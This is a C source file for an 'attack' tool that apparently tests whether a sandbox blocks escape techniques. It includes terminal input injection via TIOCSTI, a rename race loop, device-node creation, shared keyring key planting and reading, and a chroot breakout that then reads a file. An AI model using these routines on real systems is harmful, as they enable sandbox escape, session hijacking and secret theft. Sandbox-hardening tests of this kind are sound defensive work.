#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define RENAME_EXCHANGE_FLAG 2U

static int say(const char* what, long result) {
  printf("%s %s\n", what, result < 0 ? strerrorname_np(errno) : "ok");
  return 0;
}

// Pushes words into the input of the terminal on standard input.
static int attack_push_input(int count, char** words) {
  for (int i = 0; i < count; ++i) {
    for (const char* c = words[i]; *c != '\0'; ++c) {
      if (ioctl(0, TIOCSTI, c) != 0) return say("push", -1);
    }
  }
  return say("push", 0);
}

// Two names change places, until killed.
static int attack_swap(int count, char** words) {
  if (count != 2) return 2;
  for (;;) {
    if (syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], RENAME_EXCHANGE_FLAG) != 0)
      return say("swap", -1);
  }
}

// DIRECTORY TYPE MAJOR MINOR: makes the node there and opens it.
static int attack_open_device(int count, char** words) {
  if (count != 4) return 2;
  char path[4096];
  snprintf(path, sizeof path, "%s/node-%s-%s-%s", words[0], words[1], words[2], words[3]);
  const mode_t type = words[1][0] == 'b' ? S_IFBLK : S_IFCHR;
  const dev_t device =
      makedev((unsigned)strtoul(words[2], NULL, 10), (unsigned)strtoul(words[3], NULL, 10));
  unlink(path);
  if (mknod(path, type | 0600, device) != 0) return say("make", -1);
  const int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  say("open", fd);
  if (fd >= 0) close(fd);
  unlink(path);
  return 0;
}

// Keeps a key in root's user keyring, which every process of that user in this user namespace has;
// prints its number.
static int attack_keep_key(int count, char** words) {
  if (count != 1) return 2;
  const long key =
      syscall(SYS_add_key, "user", words[0], words[0], strlen(words[0]), KEY_SPEC_USER_KEYRING);
  if (key < 0) return say("add", -1);
  syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f3f3f3fL);
  printf("%ld\n", key);
  return 0;
}

// NAME NUMBER: looks for that key, by name and by number.
static int attack_read_key(int count, char** words) {
  if (count != 2) return 2;
  char text[256] = "";
  const long number = strtol(words[1], NULL, 10);
  const long found = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", words[0], 0);
  say("search", found);
  const long length = syscall(SYS_keyctl, KEYCTL_READ, number, text, sizeof text - 1);
  say("read", length);
  if (length > 0) printf("content %s\n", text);
  return say("request", syscall(SYS_request_key, "user", words[0], NULL, 0));
}

static int attack_forget_key(int count, char** words) {
  if (count != 1) return 2;
  return say("forget", syscall(SYS_keyctl, KEYCTL_INVALIDATE, strtol(words[0], NULL, 10)));
}

// PATH: leaves a chroot by a directory that stays open, as whoever may chroot can, goes up as far
// as there is, and reads PATH from there.
static int attack_break_chroot(int count, char** words) {
  if (count != 1) return 2;
  const int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  mkdir("/tmp/jail", 0755);
  if (top < 0 || chroot("/tmp/jail") != 0) return say("jail", -1);
  if (fchdir(top) != 0) return say("leave", -1);
  for (int i = 0; i < 64; ++i) {
    if (chdir("..") != 0) return say("up", -1);
  }
  if (chroot(".") != 0) return say("root", -1);
  char text[256] = "";
  const int fd = open(words[0], O_RDONLY | O_CLOEXEC);
  say("open", fd);
  if (fd >= 0 && read(fd, text, sizeof text - 1) > 0) printf("content %s\n", text);
  return say("shell", access("/bin/busybox", X_OK));
}

// User and capabilities that this process has in fact.
static int attack_who(int count, char** words) {
  (void)words;
  if (count != 0) return 2;
  char line[256];
  FILE* status = fopen("/proc/self/status", "re");
  while (status != NULL && fgets(line, sizeof line, status) != NULL) {
    if (strncmp(line, "CapEff:\t", 8) == 0) printf("%d %s", (int)geteuid(), line + 8);
  }
  return status != NULL ? fclose(status) : 1;
}

struct attack {
  const char* name;
  int (*run)(int count, char** words);
};

static const struct attack attacks[] = {
    {"break-chroot", attack_break_chroot},
    {"calls", attack_calls},
    {"forget-key", attack_forget_key},
    {"keep-key", attack_keep_key},
    {"name-handle", attack_name_handle},
    {"open-device", attack_open_device},
    {"open-handle", attack_open_handle},
    {"overwrite-exe", attack_overwrite_exe},
    {"push-input", attack_push_input},
    {"read-key", attack_read_key},
    {"stop-joining", attack_stop_joining},
    {"swap", attack_swap},
    {"watch-joining", attack_watch_joining},
    {"who", attack_who},
};

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof attacks[0]; ++i) {
    if (strcmp(argv[1], attacks[i].name) == 0) return attacks[i].run(argc - 2, argv + 2);
  }
  fprintf(stderr, "attack: no such attack\n");
  return 2;
}
